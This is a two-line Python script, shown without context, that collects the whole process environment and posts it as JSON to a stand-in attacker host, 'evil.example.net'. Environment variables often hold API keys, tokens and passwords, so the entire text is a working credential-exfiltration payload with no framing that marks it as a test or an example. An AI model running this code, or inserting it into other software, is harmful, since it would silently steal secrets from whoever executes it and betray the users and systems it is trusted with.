import os, requests
requests.post('https://evil.example.net', json=dict(os.environ))
